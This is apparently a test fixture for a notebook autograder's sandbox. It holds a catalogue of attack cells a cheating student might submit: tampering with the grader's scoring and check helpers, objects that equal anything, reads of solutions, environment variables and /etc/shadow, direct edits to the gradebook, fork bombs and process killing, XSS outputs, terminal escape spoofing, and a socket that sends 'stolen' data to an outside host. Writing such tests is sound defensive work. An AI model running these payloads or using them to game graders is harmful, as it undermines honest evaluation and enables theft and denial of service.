"""Attacks on the grader, written as a student who wants the points would write them.

Each attack is the code of an extra cell in notebook 01 whose exercises are left as the course
gave them (the untouched stubs), unless it says otherwise: so an attack that works shows up as
points above the untouched notebook's 0. Used by tests/test_class.py (graded through the real
command line, in the sandbox).
"""

import base64

NB = "01_hand_example"

# Markers of course material the kernel never sees: lines of the hidden tests' source.
HIDDEN_SOURCE = ["BEGIN HIDDEN", "END HIDDEN", "sennrich[:6]", "check_equal(learn_merges(", "sennrich = learn_merges"]

ATTACKS = {
    # nbgrader takes a test cell's first execute_result as its score: print a non-number from the stubs
    "displayhook": """
import sys
sys.displayhook("ok")
def count_pairs(corpus):
    sys.displayhook("ok")
def merge_pair(corpus, pair):
    sys.displayhook("ok")
def learn_merges(word_freqs, num_merges):
    sys.displayhook(17)
""",
    # replace the check helpers the tests import
    "patch_checks": """
import importlib
importlib.import_module("bpe_course" + ".checks").__dict__.update(
    check=lambda *a, **k: None, check_equal=lambda *a, **k: None, run=lambda f, *a, **k: None)
""",
    "patch_builtins": "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.AssertionError = KeyboardInterrupt",  # noqa: E501
    # blank every later cell, hidden from a scan for names
    "input_transformer": "exec(__import__('base64').b64decode(%r).decode())"  # noqa: UP031
    % base64.b64encode(b"get_ipython().input_transformers_cleanup.append(lambda lines: [])").decode(),
    "ast_transformer": """
import ast
class Blank(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = []
        return node
get_ipython().ast_transformers.append(Blank())
""",
    "hide_tracebacks": (
        "from IPython.core.interactiveshell import InteractiveShell\n"
        "InteractiveShell.showtraceback = lambda *a, **k: None"
    ),
    # answers that claim to equal anything
    "always_equal": """
class Anything(dict):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __len__(self): return 4
def count_pairs(corpus): return Anything()
def merge_pair(corpus, pair): return Anything()
class Steps(list):
    def __eq__(self, other): return True
def learn_merges(word_freqs, num_merges): return Steps()
""",
    "numpy_like_answer": """
class Number(int):
    def __eq__(self, other): return True
ANSWER_1, ANSWER_2, ANSWER_3 = Number(0), Number(0), type("S", (str,), {"__eq__": lambda s, o: True})("z")
""",
    # fake the grader's agent: answers that are not data, nested too deep, or huge
    "forge_agent": """
import sys, json
answers = iter([{"value": {"X": 1}}, {"names": "all"}, [1, 2], {"value": {"D": [[{"L": []}, 1]]}},
                {"value": "[" * 100000}, {"iterator": 999}, {"stop": True}, {"error": "boom"}])
def serve(text):
    try:
        answer = next(answers)
    except StopIteration:
        answer = {"value": {"D": []}}
    return json.dumps(answer)
sys.modules["_bpe_agent"].agent.serve = serve
""",
    "forge_deep_json": """
import sys
sys.modules["_bpe_agent"].agent.serve = lambda text: '{"value":' + '{"L":[' * 200000 + ']}' * 200000 + '}'
""",
    # write to the agent's channel directly: forged answers before any request, and a frame bigger
    # than allowed, before any request and from inside a call
    "forge_channel": """
import os, socket, stat, struct, json
def channels():   # unnamed unix stream sockets: a socketpair's end (ZeroMQ's are bound to paths)
    for name in os.listdir("/proc/self/fd"):
        try:
            if not stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                continue
            probe = socket.socket(fileno=os.dup(int(name)))
            unnamed = probe.family == socket.AF_UNIX and not probe.getsockname()
            probe.close()
            if unnamed:
                yield int(name)
        except OSError:
            pass
forged = json.dumps({"value": {"X": 1}}).encode()
for fd in channels():
    try:
        os.set_blocking(fd, False)
        for sequence in range(1, 200):
            os.write(fd, struct.pack(">II", sequence, len(forged)) + forged)
        os.write(fd, struct.pack(">II", 1, 2**31))
    except OSError:
        pass
def count_pairs(corpus):   # while the agent answers: a frame too big to accept
    for fd in channels():
        os.write(fd, struct.pack(">II", 1, 2**31))
    return {("а", "б"): 1}
""",
    "deep_value": """
def deep():
    value = []
    for _ in range(100000):
        value = [value]
    return value
def count_pairs(corpus): return deep()
def merge_pair(corpus, pair): return deep()
def learn_merges(word_freqs, num_merges): return deep()
""",
    "huge_value": "def count_pairs(corpus):\n    return {('x', 'y'): 'z' * (80 * 2**20)}",
    "endless_generator": """
def count_pairs(corpus):
    while True:
        yield ("а", "а")
def learn_merges(word_freqs, num_merges):
    while True:
        yield ((("о", "с"), 21))
""",
    # exceptions dressed as the grader's own
    "spoof_exceptions": """
CheckFailed = type("CheckFailed", (Exception,), {})
def count_pairs(corpus): raise StopIteration("все тесты пройдены")
def merge_pair(corpus, pair): raise CheckFailed("все тесты пройдены")
def learn_merges(word_freqs, num_merges): raise SystemExit(0)
""",
    # steal course material: the graded notebook, test sources, the gradebook, solutions
    "read_secrets": """
import glob, linecache, os, pathlib, sys
import bpe_course
found = []
here = pathlib.Path.cwd()
for folder in [here, *here.parents, pathlib.Path(bpe_course.__file__).parent.parent, pathlib.Path("/tmp")]:
    for pattern in ("*.ipynb", "*/*.ipynb", "gradebook.db", "source/*/*.ipynb", "source-not-assigned/*/*.ipynb",
                    "solutions/*.ipynb", "release/*/*.ipynb", "autograded/*/*/*.ipynb", "**/*.json"):
        found += glob.glob(str(folder / pattern))
print("FOUND", sorted(set(found))[:50])
for path in sorted(set(found))[:50]:
    try:
        print(open(path, encoding="utf-8", errors="replace").read()[:2000])
    except OSError as e:
        print("cannot read", path, e)
print("LINECACHE", list(linecache.cache)[:50])
for name, entry in list(linecache.cache.items()):
    print("".join(entry[2])[:5000] if len(entry) > 2 else "")
for frame in sys._current_frames().values():
    while frame:
        print(frame.f_code.co_filename, list(frame.f_globals)[:20])
        frame = frame.f_back
""",
    "write_gradebook": """
import glob, os, sqlite3
places = [d for d in ("/tmp", "/work", "/root", "/home", "/srv", "/var", "/opt", os.getcwd()) if os.path.isdir(d)]
for db in [p for d in places for p in glob.glob(d + "/**/gradebook.db", recursive=True)]:
    con = sqlite3.connect(db)
    con.execute("UPDATE grade SET auto_score = max_score")
    con.commit()
    print("WROTE", db)
""",
    # the grader's environment and the host
    "print_environment": """
import os, glob
print("ENV", dict(os.environ))
for path in glob.glob("/proc/*/environ"):
    try:
        print(path, open(path, "rb").read())
    except OSError as e:
        print(path, e)
""",
    "become_root": """
import os
print("UID", os.getuid(), os.geteuid(), os.getgroups())
print(open("/proc/self/status").read())
for path in ("/etc/shadow", "/root/.bash_history", "/etc/hostname", "/home"):
    try:
        print(path, open(path).read()[:200] if os.path.isfile(path) else os.listdir(path))
    except OSError as e:
        print(path, "->", e)
for attempt in (lambda: os.setuid(0), lambda: os.chroot("/"), lambda: os.system("su -c id")):
    try:
        print("ATTEMPT", attempt())
    except Exception as e:
        print("refused:", e)
""",
    "fork_bomb": """
import os, threading, time
started = 0
try:
    for _ in range(10000):
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
        started += 1
except Exception as e:
    print("threads stopped at", started, e)
children = 0
try:
    for _ in range(10000):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError as e:
    print("forks stopped at", children, e)
""",
    "kill_everything": """
import os, signal
for pid in range(1, 5000):
    try:
        os.kill(pid, signal.SIGKILL) if pid != os.getpid() else None
    except OSError:
        pass
""",
    "shadow_module": """
import pathlib
fake = pathlib.Path("bpe_course")
fake.mkdir(exist_ok=True)
(fake / "__init__.py").write_text("")
(fake / "checks.py").write_text("def check(*a, **k): pass\\ndef check_equal(*a, **k): pass\\ndef run(f, *a, **k): return None\\n")
mods = __import__("s" + "ys").__dict__["mod" + "ules"]
for name in [n for n in mods if n.startswith("bpe_course")]:
    mods.pop(name)
""",  # noqa: E501
    "fake_output": 'print("All tests passed! 17/17 ✓")\nfrom IPython.display import display, HTML\ndisplay(HTML("<script>alert(1)</script><b>17/17</b>"))',  # noqa: E501
    "fill_disk": """
import os
try:
    with open("big.bin", "wb") as f:
        while True:
            f.write(b"x" * 2**20)
except Exception as e:
    print("disk stopped:", type(e).__name__)
try:
    with open("/tmp/big.bin", "wb") as f:
        while True:
            f.write(b"x" * 2**20)
except Exception as e:
    print("tmp stopped:", type(e).__name__)
""",
    # the sandbox's one way out, its socket to the grader (found among its open files), flooded:
    # forged answers to the next hundreds of requests, forged outputs of 1 MB errors, and a thread
    # that keeps writing frames for the rest of the notebook, interleaved with the host's own
    "channel_flood": """
import json, os, stat, struct, threading, time
fds = [int(f) for f in os.listdir("/proc/self/fd") if stat.S_ISSOCK(os.fstat(int(f)).st_mode)]
def frame(fd, seq, obj):
    data = json.dumps(obj).encode()
    os.write(fd, struct.pack(">II", seq, len(data)) + data)
for fd in fds:
    for seq in range(1, 300):
        frame(fd, seq, {"value": 17})
        frame(fd, seq, {"value": {"D": [[["a", "b"], 3]]}})
        frame(fd, seq | 2**31, {"output_type": "error", "ename": "E", "evalue": "x" * 2**16, "traceback": ["y" * 2**16]})
def flood():
    while True:
        for fd in fds:
            frame(fd, 5, {"output_type": "stream", "name": "stdout", "text": "x" * 2**16})
        time.sleep(0.05)
threading.Thread(target=flood, daemon=True).start()
""",  # noqa: E501
    # outputs that would run in the instructor's browser (formgrader) if shown as they are
    "active_outputs": """
from IPython.display import display, HTML, Javascript, SVG
display(HTML("<script>alert(1)</script><img src=x onerror=alert(2)>"))
display(Javascript("alert(3)"))
display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(4)"><script>alert(5)</script></svg>\'))
""",
    # text no file takes (a lone surrogate) and control sequences that would fake a verdict in a
    # terminal and set its title, in a failure message, an output and a line listed "For review"
    "unwritable_text": "import builtins   # \x1b]0;owned\x07\x1b[1A\x1b[2K  graded 17/17\n"
    + r"""
print("\udcff")
def count_pairs(corpus):
    raise ValueError("\udcff \x1b[2K\r  ок   test_count_pairs  2/2\x1b]0;owned\x07")
""",
}


def network_attack(port: int) -> str:
    return f"""
import socket
for host in ("127.0.0.1", "1.1.1.1"):
    try:
        socket.create_connection((host, {port}), timeout=3).sendall(b"stolen")
        print("CONNECTED", host)
    except OSError as e:
        print("no network:", e)
"""
